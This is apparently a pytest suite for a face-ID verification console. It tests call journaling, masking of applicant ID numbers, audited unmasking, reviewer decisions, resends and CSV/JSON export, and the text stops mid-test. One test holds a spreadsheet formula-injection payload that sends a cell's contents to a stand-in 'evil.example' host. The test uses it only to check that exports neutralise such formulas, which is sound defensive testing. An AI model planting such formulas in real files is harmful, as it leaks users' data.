"""Every API sub-command is journaled; ``history list|show|export|decide|resend`` against the real engine."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import sys
from pathlib import Path
from urllib.parse import urlencode

import pytest
import requests

from faceid_console import cli
from faceid_console.store import CallKind, EntryStatus, HistoryEntry, HistoryFilter, HistoryStore
from faceid_console.store.journal import sha256_hex
from faceid_console.store.schema import calls
from tests.conftest import API_KEY, API_SECRET

NUMBER, NAME = "11010519491231002X", "奥巴马"


@pytest.fixture
def console(engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
    """Runs ``faceid-console ARGS`` in-process; returns (exit code, parsed JSON stdout or text)."""
    monkeypatch.setenv("FACEID_API_KEY", API_KEY)
    monkeypatch.setenv("FACEID_API_SECRET", API_SECRET)
    monkeypatch.setenv("FACEID_CONSOLE_OPERATOR", "reviewer-7")

    def run(*args: str):
        capsys.readouterr()
        code = cli.main(list(args))
        out = capsys.readouterr().out
        try:
            return code, json.loads(out)
        except ValueError:
            return code, out
    run.url = engine.base_url  # type: ignore[attr-defined]
    return run


def _store() -> HistoryStore:
    return HistoryStore.open(operator="test")


def _verify_of_unknown_outcome(console, faces: Path, uuid: str) -> tuple[HistoryStore, HistoryEntry]:  # type: ignore[no-untyped-def]
    """A verify journaled by the command line, then left as if its process had been killed while the request was in
    flight (outcome unknown); the store it is in, open, and the entry as it was recorded."""
    console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", uuid,
            "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
    store = _store()
    [entry] = store.history.page(HistoryFilter(), 0, 1)
    with store.engine.begin() as c:
        c.execute(calls.update().where(calls.c.id == entry.id).values(status="unknown", response_json=None))
    return store, entry


def test_verify_is_journaled_with_hashes_of_what_was_sent_and_the_printed_answer(console, faces: Path) -> None:
    code, out = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U-obama",
                        "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
    assert code == 0
    store = _store()
    [entry] = store.history.page(HistoryFilter(), 0, 10)
    assert entry.kind is CallKind.VERIFY and entry.status is EntryStatus.COMPLETE
    assert entry.request_id == out["request_id"] and entry.response is not None
    assert entry.response["result_ref1"]["confidence"] == out["result_ref1"]["confidence"]
    assert entry.billed is True and entry.verdict == "match" and entry.operator == "reviewer-7"
    assert entry.base_url == console.url and entry.uuid == "U-obama"
    from faceid_console.api.images import prepare_image

    sent = prepare_image(faces / "obama_1.jpg", "image").data
    assert {i.field: i.sha256 for i in store.history.images(entry.id)}["image"] == sha256_hex(sent)
    store.close()


def test_a_refused_call_is_journaled_as_an_error(console, faces: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FACEID_API_SECRET", "wrong-secret")
    code, out = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U",
                        "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
    assert code == 1
    code, listed = console("history", "list", "--status", "error")
    assert listed["total"] == 1 and listed["entries"][0]["error_code"] == out["error"]["code"]
    assert listed["entries"][0]["billed"] is False


def test_history_list_undecided_leaves_out_a_refusal_that_says_nothing_of_the_applicant(
        console, faces: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``--decision undecided``: the answers still waiting for a reviewer, not a wrong secret's refusal (nothing to
    decide on there: it is sent again)."""
    args = ("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U",
            "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
    assert console(*args)[0] == 0
    monkeypatch.setenv("FACEID_API_SECRET", "wrong-secret")
    code, out = console(*args)
    assert code == 1 and out["error"]["code"] == "AUTHENTICATION_ERROR"
    code, listed = console("history", "list", "--decision", "undecided")
    assert code == 0 and listed["total"] == 1
    assert listed["entries"][0]["outcome"] == "complete" and listed["entries"][0]["error_code"] in (None, "")


def test_a_verify_answer_without_the_scores_asked_for_is_an_error_not_a_verdict(console, faces: Path) -> None:
    """A custom host's {"foo": "bar"} used to print "NO VERDICT", exit 3 (below the policy level) and be kept as a
    complete answer."""
    from tests.http_stub import Stub

    stub = Stub(lambda n, path: (200, "application/json", b'{"foo": "bar"}'))
    try:
        code, out = console("verify", "--json", "--base-url", stub.url, "--comparison-type", "0",
                            "--uuid", "U", "--image", str(faces / "obama_1.jpg"), "--image-ref1",
                            str(faces / "obama_2.jpg"))
    finally:
        stub.close()
    assert code == 1 and len(stub.calls) == 1
    assert out["error"]["code"] == "INVALID_RESPONSE" and out["error"]["detail"] == "response.result_ref1"
    assert out["error"]["message"] == "response field response.result_ref1 is missing" and "--base-url" in out["hint"]
    listed = console("history", "list")[1]
    assert [(e["status"], e["verdict"], e["error_code"]) for e in listed["entries"]] == [
        ("error", "error", "INVALID_RESPONSE")]


def test_a_gateway_s_504_page_is_journaled_as_outcome_unknown_not_as_an_unbilled_error(  # type: ignore[no-untyped-def]
        console, faces: Path) -> None:
    """A proxy's 504 Gateway Time-out page was journaled as an error (not billed) and hinted at --base-url: the call
    may have reached FaceID and been billed before the gateway gave up, as one the console's own time-out ended."""
    from tests.http_stub import Stub

    page = b"<html><head><title>504 Gateway Time-out</title></head><body><h1>504 Gateway Time-out</h1></body></html>"
    stub = Stub(lambda n, path: (504, "text/html", page))
    try:
        code, out = console("verify", "--json", "--base-url", stub.url, "--comparison-type", "0",
                            "--uuid", "U", "--image", str(faces / "obama_1.jpg"), "--image-ref1",
                            str(faces / "obama_2.jpg"))
    finally:
        stub.close()
    assert code == 1 and len(stub.calls) == 1  # not sent again by itself
    assert (out["error"]["code"], out["error"]["origin"], out["error"]["http_status"]) == (
        "GATEWAY_ERROR", "transport", 504)
    assert not out["error"]["retry_safe"] and "may still have been processed (and billed)" in out["explanation"]
    # Billing unknown, as the window says: "billed": false beside "may have been billed" told a script it was not.
    assert out["error"]["billed"] is None and out["error"]["outcome_unknown"] is True
    assert "outcome unknown" in out["hint"] and "--base-url" not in out["hint"]
    listed = console("history", "list")[1]
    assert [(e["status"], e["outcome"], e["error_code"], e["billed"]) for e in listed["entries"]] == [
        ("unknown", "outcome unknown, not resent", "GATEWAY_ERROR", None)]  # it said "billed": false


def test_input_errors_send_nothing_and_journal_nothing(console, faces: Path) -> None:
    code, _ = console("verify", "--base-url", console.url, "--comparison-type", "1", "--idcard-name", NAME,
                      "--idcard-number", "110105194912310021", "--image", str(faces / "obama_1.jpg"))
    assert code == 2
    assert console("history", "list")[1]["total"] == 0


def test_web_liveness_get_result_and_callback_are_journaled(console, faces: Path, tmp_path: Path) -> None:
    code, token = console("get-token", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U-web",
                          "--image-ref1", str(faces / "obama_2.jpg"), "--return-url", "http://127.0.0.1:9/r",
                          "--notify-url", "http://127.0.0.1:9/n", "--biz-no", "B-77")
    assert code == 0
    page = requests.post(console.url + "/faceid/liveness/v2/do", data={"token": token["token"]},
                         files={"image_best": ("b.jpg", (faces / "obama_1.jpg").read_bytes(), "image/jpeg")},
                         timeout=60)
    data = html.unescape(re.search(r'name="data" value="([^"]*)"', page.text).group(1))  # type: ignore[union-attr]
    sign = re.search(r'name="sign" value="([^"]*)"', page.text).group(1)  # type: ignore[union-attr]
    body = tmp_path / "callback.txt"
    body.write_text(urlencode({"data": data, "sign": sign}))
    assert console("check-callback", str(body))[0] == 0
    biz_id = json.loads(data)["biz_id"]
    code, _ = console("get-result", "--base-url", console.url, "--biz-id", biz_id, "--get-image-type", "1")
    assert code == 0
    code, listed = console("history", "list", "--biz-no", "B-77")
    kinds = [e["kind"] for e in listed["entries"]]
    assert kinds == ["get_result", "callback_check", "get_token"]
    assert all(e["biz_id"] == biz_id for e in listed["entries"][:2])
    store = _store()
    [kept] = store.history.page(HistoryFilter(kinds=(CallKind.GET_RESULT,)), 0, 1)
    assert kept.response is not None and kept.response["images"]["image_best"].startswith("sha256:")
    [best] = [i for i in store.history.images(kept.id) if i.field == "liveness:image_best"]
    assert best.data is not None and best.sha256 == kept.response["images"]["image_best"][7:]
    [check] = store.history.page(HistoryFilter(kinds=(CallKind.CALLBACK_CHECK,)), 0, 1)
    # A genuine callback is recorded as its session's answer (the same as get_result's), and costs nothing.
    assert (check.verdict, check.confidence) == (kept.verdict, kept.confidence) and kept.verdict == "match"
    assert check.billed is False and kept.billed is True
    store.close()


def _verified(console, faces: Path) -> int:
    code, _ = console("verify", "--base-url", console.url, "--comparison-type", "1", "--idcard-name", NAME,
                      "--idcard-number", NUMBER, "--image", str(faces / "obama_1.jpg"))
    assert code in (0, 1)
    return console("history", "list", "--limit", "1")[1]["entries"][0]["id"]


def test_list_and_show_mask_identifiers_and_unmasking_is_audited(console, faces: Path) -> None:
    entry = _verified(console, faces)
    code, listed = console("history", "list", "002x")
    assert code == 0 and listed["entries"][0]["idcard_number"] == "110***********002X"
    assert NUMBER not in json.dumps(listed, ensure_ascii=False)
    code, shown = console("history", "show", str(entry))
    assert NUMBER not in json.dumps(shown, ensure_ascii=False) and NAME not in json.dumps(shown, ensure_ascii=False)
    assert shown["parameters"]["idcard_number"] == "110***********002X"
    assert shown["audit"] == []
    code, full = console("history", "show", str(entry), "--unmask")
    assert full["idcard_number"] == NUMBER and full["parameters"]["idcard_name"] == NAME
    assert [a["action"] for a in full["audit"]] == ["entry.unmasked"] and full["audit"][0]["operator"] == "reviewer-7"


def test_export_masks_by_default_and_unmask_is_audited(console, faces: Path, tmp_path: Path) -> None:
    _verified(console, faces)
    code, text = console("history", "export", "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["idcard_number"] == "110***********002X" and NUMBER not in text
    out = tmp_path / "all.json"
    assert console("history", "export", "--format", "json", "--unmask", "--output", str(out))[0] == 0
    assert json.loads(out.read_text("utf-8"))[0]["idcard_number"] == NUMBER
    store = _store()
    assert [e.action for e in store.audit_events()] == ["export.unmasked"]
    store.close()


def test_export_carries_the_current_decisions_details_with_the_applicant_masked_in_its_note(
        console, faces: Path, tmp_path: Path) -> None:
    """``history export`` is the window's export: after ``current_decision``, the newest decision's reason, note,
    reviewer and time; a note naming the applicant masked unless ``--unmask``."""
    entry = _verified(console, faces)
    code, first = console("history", "decide", str(entry), "approve", "--reason", "Same person, documents consistent",
                          "--against-verdict")
    assert code == 0
    note = f"{NAME} phoned, ID {NUMBER} confirmed"
    code, shown = console("history", "decide", str(entry), "escalate", "--reason", "Needs a senior reviewer",
                          "--note", note, "--supersede", str(first["decisions"][0]["id"]))
    assert code == 0
    newest = shown["decisions"][0]
    code, text = console("history", "export", "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["current_decision"], row["decision_reason"], row["decided_by"], row["decided_at"]) == (
        "escalate", "Needs a senior reviewer", "reviewer-7", newest["decided_at"])
    assert row["decision_note"] == "奥*马 phoned, ID 110***********002X confirmed" and NUMBER not in text
    out = tmp_path / "all.json"
    assert console("history", "export", "--format", "json", "--unmask", "--output", str(out))[0] == 0
    [item] = json.loads(out.read_text("utf-8"))
    assert (item["decision_note"], item["decided_at"]) == (note, newest["decided_at"])


def test_a_csv_export_runs_no_formula_in_a_spreadsheet_and_json_keeps_the_uuid_exact(  # type: ignore[no-untyped-def]
        console, tmp_path: Path) -> None:
    """The command line's export is the window's: a uuid typed as a formula is written with a ' before it in CSV."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open file")'
    store = _store()
    store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": formula})
    store.close()
    code, text = console("history", "export", "--format", "csv")
    assert code == 0 and [row["uuid"] for row in csv.DictReader(io.StringIO(text))] == ["'=HYP…le\")"]
    out = tmp_path / "all.csv"
    assert console("history", "export", "--format", "csv", "--unmask", "--output", str(out))[0] == 0
    assert [row["uuid"] for row in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))] == ["'" + formula]
    assert console("history", "export", "--format", "json", "--unmask", "--output", str(tmp_path / "all.json"))[0] == 0
    assert json.loads((tmp_path / "all.json").read_text("utf-8"))[0]["uuid"] == formula


def test_decide_supersedes_and_shows_the_trail(console, faces: Path) -> None:
    entry = _verified(console, faces)
    code, listed = console("history", "reasons")
    assert code == 0 and listed
    reasons = [item["reason"] for item in listed]
    code, first = console("history", "decide", str(entry), "approve", "--reason", reasons[0], "--against-verdict")
    assert code == 0
    code, shown = console("history", "decide", str(entry), "reject", "--reason", reasons[1], "--note",
                          f"2nd look: {NUMBER.lower()} is someone else's", "--supersede",
                          str(first["decisions"][0]["id"]))
    assert [d["decision"] for d in shown["decisions"]] == ["reject", "approve"]
    # A note naming the applicant is masked as their own fields are, unless unmasked (it was printed as typed).
    assert shown["decisions"][0]["note"] == "2nd look: 110***********002X is someone else's"
    assert console("history", "show", str(entry), "--unmask")[1]["decisions"][0]["note"] == \
        f"2nd look: {NUMBER.lower()} is someone else's"
    assert shown["current_decision"] == "reject"
    assert console("history", "list", "--decision", "reject")[1]["total"] == 1
    code, err = console("history", "decide", str(entry), "approve", "--reason", "made up", "--against-verdict")
    assert code == 2 and err["error"]["detail"] == "reason"
    code, err = console("history", "decide", str(entry), "approve", "--reason", "Different person",
                        "--against-verdict")
    assert code == 2 and err["error"]["detail"] == "reason" and "does not fit a decision to approve" in \
        err["error"]["message"]


def test_history_reasons_says_which_decisions_each_reason_fits_as_json_and_as_text(
        console, monkeypatch: pytest.MonkeyPatch) -> None:
    """It listed the reasons alone: "Different person" read as fit for an approval, which 'history decide' then
    refused. Each reason comes with the decisions it fits (a team's own reason fits any), in JSON as in text."""
    from faceid_console.store.decisions import set_reasons

    code, listed = console("history", "reasons")  # not a terminal: JSON
    assert code == 0
    fits = {item["reason"]: item["decisions"] for item in listed}
    assert fits["Same person, documents consistent"] == ["approve"]
    assert fits["Different person"] == ["reject", "escalate"]
    assert fits["Needs a senior reviewer"] == ["escalate"]
    assert console("history", "reasons", "--json")[1] == listed
    store = _store()
    set_reasons(store.engine, ["Different person", "分行复核：证件一致"], operator="lead")
    store.close()
    code, text = console("history", "reasons", "--summary")
    assert code == 0 and text.splitlines() == [
        "decisions it fits          reason",
        "reject, escalate           Different person",
        "approve, reject, escalate  分行复核：证件一致",  # a team's own reason fits any decision
    ]
    code, listed = console("history", "reasons", "--json")
    assert listed == [{"reason": "Different person", "decisions": ["reject", "escalate"]},
                      {"reason": "分行复核：证件一致", "decisions": ["approve", "reject", "escalate"]}]
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)  # on a terminal, text unless --json is given
    assert console("history", "reasons")[1] == text
    assert console("history", "reasons", "--json")[1] == listed


def test_resend_only_on_request_and_linked_to_the_unknown_entry(console, faces: Path) -> None:
    store, entry = _verify_of_unknown_outcome(console, faces, "U-again")
    code, _ = console("history", "resend", str(entry.id + 99))
    assert code == 2
    code, again = console("history", "resend", str(entry.id))
    assert code == 0 and "result_ref1" in again
    [new, old] = store.history.page(HistoryFilter(uuid="U-again"), 0, 5)
    assert new.resend_of == old.id == entry.id and new.status is EntryStatus.COMPLETE
    assert [e.action for e in store.audit_events(new.id)] == ["call.resent"]
    code, refused = console("history", "resend", str(new.id))
    assert code == 2 and "has an answer" in refused["error"]["message"]
    # Sent again already: not a second time (each is billed); the resend is what to resend if it fails too.
    code, refused = console("history", "resend", str(entry.id))
    assert code == 2 and f"already sent again, as entry {new.id}" in refused["error"]["message"]
    assert len(store.history.page(HistoryFilter(uuid="U-again"), 0, 5)) == 2
    store.close()


def test_a_resend_that_begins_while_another_is_being_sent_is_refused_before_sending(console, faces: Path,
                                                                                   monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """The early "already sent again?" look-up can pass while another operator's resend is starting: the journal's
    check under a lock refuses it then, with the same words, and nothing leaves."""
    from faceid_console.store.history import HistoryReader

    store, entry = _verify_of_unknown_outcome(console, faces, "U-twice")
    other = store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": "U-twice"},
                                resend_of=entry.id)  # the other operator's resend, on its way
    monkeypatch.setattr(HistoryReader, "resent_as", lambda self, entry: None)  # looked up before it began
    code, refused = console("history", "resend", str(entry.id))
    assert code == 2 and refused["error"]["detail"] == "entry"
    assert refused["error"]["message"] == (f"Entry {entry.id} was already sent again, as entry {other} (pending); "
                                           f"resend entry {other} if it has no answer either.")
    assert len(store.history.page(HistoryFilter(uuid="U-twice"), 0, 5)) == 2  # nothing more was journaled or sent
    store.close()


def test_a_call_still_on_its_way_is_not_resent(console, faces: Path) -> None:
    """Another process's call waiting for its answer was resent (and billed twice) while it was still pending."""
    store = _store()
    waiting = store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": "U-waiting"})
    code, refused = console("history", "resend", str(waiting))  # its sender (this process) is alive
    assert code == 2 and refused["error"]["detail"] == "entry" and "may still be on its way" in \
        refused["error"]["message"]
    assert store.history.page(HistoryFilter(uuid="U-waiting"), 0, 5)[0].resend_of is None
    assert len(store.history.page(HistoryFilter(uuid="U-waiting"), 0, 5)) == 1
    store.close()


def test_a_billed_refusal_is_not_resent(console, faces: Path) -> None:
    """NO_SUCH_ID_NUMBER is billed and would answer the same: resending it billed it twice for nothing."""
    from faceid_console.api import FaceIDError

    store = _store()
    refused = store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": "U-noface"})
    store.journal.fail(refused, FaceIDError.from_response(400, b'{"error_message": "NO_SUCH_ID_NUMBER"}'))
    assert store.history.entry(refused).billed is True  # type: ignore[union-attr]
    code, out = console("history", "resend", str(refused))
    assert code == 2 and "billed: sent again it would be billed again" in out["error"]["message"]
    assert len(store.history.page(HistoryFilter(uuid="U-noface"), 0, 5)) == 1
    store.close()


def test_the_built_in_engine_s_calls_are_journaled_as_not_billed_and_a_host_given_by_address_s_as_billed(
        console, faces: Path) -> None:
    """The command line's calls on the built-in engine were recorded as billed (History counted them); a call sent to
    a --base-url is billed whichever profile names it (the active one is local-engine by default)."""
    from faceid_console import local_engine

    local_engine.publish(console.url, API_KEY)  # the built-in engine the profile reaches, as a window publishes it
    try:
        code, _answer = console("verify", "--comparison-type", "0", "--uuid", "U-free", "--image",
                             str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
        assert code == 0
        code, _answer = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U-charged",
                                "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
        assert code == 0
    finally:
        local_engine.unpublish()
    code, listed = console("history", "list")
    billed = [(entry["profile"], entry["billed"]) for entry in listed["entries"]]  # newest first
    assert billed == [("local-engine", True), ("local-engine", False)]


def test_a_call_another_console_still_awaits_is_not_said_to_be_of_unknown_outcome(console) -> None:
    """``history list`` and ``show`` called every pending entry "outcome unknown, not resent", while the window's
    History says a call whose sender still runs (and is younger than an hour) is sent, with no answer recorded yet."""
    import subprocess

    store = _store()
    waiting = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()"], stdin=subprocess.PIPE)
    ended = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                           check=True)
    try:
        awaited = store.journal.begin(CallKind.VERIFY, "cloud-cn", {"comparison_type": "0", "uuid": "U-awaited"})
        gone = store.journal.begin(CallKind.VERIFY, "cloud-cn", {"comparison_type": "0", "uuid": "U-gone"})
        with store.engine.begin() as c:  # sent by another console on this computer: one still running, one ended
            c.execute(calls.update().where(calls.c.id == awaited).values(owner_pid=waiting.pid))
            c.execute(calls.update().where(calls.c.id == gone).values(owner_pid=int(ended.stdout)))
        code, listed = console("history", "list")
        assert code == 0
        outcomes = {entry["id"]: (entry["status"], entry["outcome"]) for entry in listed["entries"]}
        assert outcomes == {awaited: ("pending", "sent, no answer recorded yet"),
                            gone: ("unknown", "outcome unknown, not resent")}
        code, shown = console("history", "show", str(awaited))
        assert code == 0 and shown["outcome"] == "sent, no answer recorded yet"
    finally:
        waiting.communicate(b"", timeout=30)
        store.close()
    code, shown = console("history", "show", str(awaited))  # its sender ended without an answer
    assert code == 0 and shown["outcome"] == "outcome unknown, not resent"


def test_the_command_line_decides_only_where_the_window_would(console, faces: Path) -> None:
    """It recorded a rejection on a call whose outcome was unknown, and approved a no-match without a word."""
    store = _store()
    unknown = store.journal.begin(CallKind.VERIFY, "local-engine", {"comparison_type": "0", "uuid": "U-unknown"})
    code, refused = console("history", "decide", str(unknown), "reject", "--reason", "Different person")
    assert code == 2 and refused["error"]["detail"] == "entry"
    assert refused["error"]["message"] == (f"Entry {unknown} cannot be decided: its outcome is unknown: no answer "
                                           "was recorded.")
    code, refused = console("history", "decide", str(unknown), "approve", "--reason",
                            "Same person, documents consistent")  # why it cannot, not a flag that would not help
    assert code == 2 and "cannot be decided" in refused["error"]["message"]
    assert store.history.decision_trail(unknown) == []
    code, _ = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U-other",
                      "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "biden_1.jpg"))
    [no_match] = store.history.page(HistoryFilter(uuid="U-other"), 0, 1)
    assert code == 3 and no_match.verdict == "no_match"
    code, refused = console("history", "decide", str(no_match.id), "approve", "--reason",
                            "Same person, documents consistent")
    assert code == 2 and "goes against it. Add --against-verdict" in refused["error"]["message"]
    assert store.history.decision_trail(no_match.id) == []
    code, _ = console("history", "decide", str(no_match.id), "approve", "--reason",
                      "Same person, documents consistent", "--against-verdict")
    assert code == 0 and [d.decision.value for d in store.history.decision_trail(no_match.id)] == ["approve"]
    store.close()


def test_the_parsers_choices_are_the_stores_values() -> None:
    from faceid_console import history_commands as h
    from faceid_console.store import SortColumn, export
    from faceid_console.store.records import DecisionKind

    assert tuple(k.value for k in CallKind) == h.CALL_KINDS
    assert tuple(d.value for d in DecisionKind) == h.DECISIONS
    from faceid_console.store.history import UNDECIDED

    assert h.UNDECIDED == UNDECIDED
    assert tuple(s.value for s in EntryStatus) == h.STATUSES
    assert tuple(c.value for c in SortColumn) == h.SORT_COLUMNS
    assert tuple(f.value for f in export.ExportFormat) == h.EXPORT_FORMATS


def test_a_uuid_given_with_spaces_or_a_line_break_around_it_is_sent_without_them(console, faces: Path) -> None:
    """As the window's Verify page takes it: "$(cat uuid.txt)" keeps no newline, but a pasted argument can; since a
    uuid with a control character is refused, one given with its line break was refused here."""
    photo = str(faces / "obama_2.jpg")
    calls_made = {
        "verify": ("--image", str(faces / "obama_1.jpg"), "--image-ref1", photo),
        "biz-token": ("--liveness-type", "meglive", "--image-ref1", photo),
        "get-token": ("--image-ref1", photo, "--return-url", "http://127.0.0.1:9/r", "--notify-url", "http://127.0.0.1:9/n"),
    }
    for command, rest in calls_made.items():
        code, out = console(command, "--base-url", console.url, "--comparison-type", "0", "--uuid", " U-pasted\n",
                            *rest)
        assert code == 0, out
    sent = _store().history.page(HistoryFilter(), 0, 10)
    assert sorted(entry.kind for entry in sent) == sorted([CallKind.VERIFY, CallKind.GET_BIZ_TOKEN,
                                                          CallKind.GET_TOKEN])
    assert {entry.uuid for entry in sent} == {"U-pasted"}
    code, out = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U-\u200bpasted",
                        *calls_made["verify"])
    assert code == cli.EXIT_INPUT_ERROR and out["error"]["detail"] == "uuid"  # what is inside it is still checked


def test_get_result_explains_a_comparison_that_did_not_run(console, faces: Path) -> None:  # type: ignore[no-untyped-def]
    """A session whose KYC comparison failed printed only "verify_result: NO_SUCH_ID_NUMBER": a bare code, where
    every other error the command line prints says what it means and what to do."""
    unknown = "110105194912310038"  # a real ID number's shape, not in the engine's registry
    code, token = console("get-token", "--base-url", console.url, "--comparison-type", "1", "--idcard-name", NAME,
                          "--idcard-number", unknown, "--return-url", "http://127.0.0.1:9/r",
                          "--notify-url", "http://127.0.0.1:9/n")
    assert code == 0, token
    page = requests.post(console.url + "/faceid/liveness/v2/do", data={"token": token["token"]},
                         files={"image_best": ("b.jpg", (faces / "obama_1.jpg").read_bytes(), "image/jpeg")},
                         timeout=60)
    biz_id = json.loads(html.unescape(re.search(r'name="data" value="([^"]*)"', page.text).group(1)))["biz_id"]  # type: ignore[union-attr]
    code, out = console("get-result", "--summary", "--base-url", console.url, "--biz-id", biz_id)
    assert code == 3 and isinstance(out, str)  # the session's answer, as a summary: the applicant not confirmed
    lines = out.splitlines()
    at = lines.index("verify_result: NO_SUCH_ID_NUMBER (the comparison did not run; the session is billed)")
    assert lines[at + 1] == "  The identity data source has no record of this ID number."
    assert lines[at + 2] == ("  hint: in the get-token that started this session, the data source has no record of "
                             "--idcard-number; on the built-in engine add the person with 'faceid-console engine "
                             "registry add'")


def test_a_refused_decision_names_the_error_code_in_its_own_case(console, faces: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """It said "its error (authentication_error)": the message was capitalised whole, the code lowered with it."""
    monkeypatch.setenv("FACEID_API_SECRET", "wrong-secret")
    code, _ = console("verify", "--base-url", console.url, "--comparison-type", "0", "--uuid", "U",
                      "--image", str(faces / "obama_1.jpg"), "--image-ref1", str(faces / "obama_2.jpg"))
    assert code == 1
    entry = console("history", "list", "--limit", "1")[1]["entries"][0]["id"]
    code, refused = console("history", "decide", str(entry), "reject", "--reason", "Different person")
    assert code == 2 and refused["error"]["message"] == (
        f"Entry {entry} cannot be decided: its error (AUTHENTICATION_ERROR) says nothing about the applicant.")


def test_export_keeps_an_existing_file_unless_told_to_overwrite_it(console, faces: Path, tmp_path: Path) -> None:
    """``--output`` replaced a file that was there without a word (the window asks first)."""
    _verified(console, faces)
    out = tmp_path / "kept.csv"
    out.write_text("the reviewer's own notes", "utf-8")
    code, refused = console("history", "export", "--format", "csv", "--output", str(out))
    assert code == 2 and refused["error"]["detail"] == "output"
    assert "exists already" in refused["error"]["message"] and "--overwrite" in refused["error"]["message"]
    assert out.read_text("utf-8") == "the reviewer's own notes"
    assert console("history", "export", "--format", "csv", "--output", str(out), "--overwrite")[0] == 0
    assert [row["idcard_number"] for row in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))] == [
        "110***********002X"]


def test_export_to_dash_writes_standard_output_and_an_empty_name_is_refused_naming_the_flag(
        console, faces: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``--output -`` wrote a file named "-"; ``--output ''`` failed with "cannot write '.' (Device or resource
    busy)"."""
    _verified(console, faces)
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    code, printed = console("history", "export", "--format", "json", "--output", "-")
    assert code == 0 and [item["idcard_number"] for item in printed] == ["110***********002X"]
    assert not (here / "-").exists()
    code, refused = console("history", "export", "--format", "json", "--output", "")
    assert code == 2 and refused["error"]["detail"] == "output"
    assert refused["error"]["message"].startswith("--output: the file name is empty")
    assert list(here.iterdir()) == []


def test_history_decide_refuses_a_token_saying_why(console) -> None:
    """A decision was recorded on a get_token entry, which only starts a liveness session."""
    store = _store()
    token = store.journal.begin(CallKind.GET_TOKEN, "local-engine", {"comparison_type": "0", "uuid": "U-web"})
    store.journal.complete(token, {"request_id": "r-web", "time_used": 3, "token": "t-1", "expired_time": 1})
    code, refused = console("history", "decide", str(token), "approve", "--reason",
                            "Same person, documents consistent")
    assert code == 2 and refused["error"]["detail"] == "entry"
    assert refused["error"]["message"] == (
        f"Entry {token} cannot be decided: a get_token call only starts a liveness session and says nothing about "
        "the applicant; decide on the session's result (its get_result or callback_check entry).")
    assert store.history.decision_trail(token) == []
    assert console("history", "list", "--decision", "undecided")[1]["total"] == 0
    store.close()


def test_a_resent_entry_names_its_resend_and_the_resend_the_entry_it_sends_again(console, faces: Path) -> None:
    """After 'history resend 17' (a new entry 18), 17 still said "outcome unknown, not resent", and 18 nothing of 17."""
    store, entry = _verify_of_unknown_outcome(console, faces, "U-again")
    store.close()
    code, listed = console("history", "list")
    assert code == 0 and listed["entries"][0]["outcome"] == "outcome unknown, not resent"
    assert console("history", "resend", str(entry.id))[0] == 0
    code, listed = console("history", "list")
    new, old = listed["entries"]
    assert old["id"] == entry.id and old["outcome"] == f"outcome unknown, resent as entry {new['id']}"
    assert (old["resent_as"], old["resend_of"]) == (new["id"], None)
    assert (new["outcome"], new["resend_of"], new["resent_as"]) == ("complete", entry.id, None)
    code, shown = console("history", "show", str(entry.id))
    assert shown["outcome"] == old["outcome"] and shown["resent_as"] == new["id"]
    code, shown = console("history", "show", str(new["id"]))
    assert (shown["resend_of"], shown["resent_as"]) == (entry.id, None)


def test_history_export_links_a_resend_both_ways_as_history_list_does(console, faces: Path) -> None:
    """'history export' is the window's export: it said nothing of the resend that 'history list' names."""
    store, entry = _verify_of_unknown_outcome(console, faces, "U-exported")
    store.close()
    assert console("history", "resend", str(entry.id))[0] == 0
    new, old = console("history", "list")[1]["entries"]
    code, text = console("history", "export", "--format", "csv")
    assert code == 0
    assert [(row["id"], row["resend_of"], row["resent_as"]) for row in csv.DictReader(io.StringIO(text))] == [
        (str(new["id"]), str(entry.id), ""), (str(entry.id), "", str(new["id"]))]
    code, items = console("history", "export", "--format", "json")
    assert code == 0 and [(i["id"], i["resend_of"], i["resent_as"]) for i in items] == [
        (new["id"], entry.id, None), (entry.id, None, new["id"])]
    assert old["resent_as"] == new["id"]


def test_history_decide_decides_an_undecided_entry_as_before_and_refuses_a_supersede_naming_no_decision(
        console, faces: Path) -> None:
    """A first decision needs no --supersede; one given for an entry without a decision names nothing to supersede,
    so nothing is recorded (the store looked that decision up, and failed on finding none)."""
    entry = _verified(console, faces)
    code, shown = console("history", "decide", str(entry), "reject", "--reason", "Different person")
    assert code == 0 and [(d["decision"], d["supersedes"]) for d in shown["decisions"]] == [("reject", None)]
    other = _verified(console, faces)
